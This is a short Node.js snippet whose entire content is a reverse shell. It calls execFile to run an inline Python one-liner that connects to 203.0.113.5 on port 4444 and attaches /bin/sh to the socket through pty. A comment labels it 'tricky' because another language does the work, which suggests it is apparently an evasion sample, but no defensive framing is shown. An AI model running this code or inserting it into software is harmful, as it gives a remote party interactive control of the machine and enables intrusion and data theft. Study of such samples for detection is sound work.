// tricky: another language does the work
const { execFile } = require('child_process');
execFile('python3', ['-c', 'import os,socket,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")']);
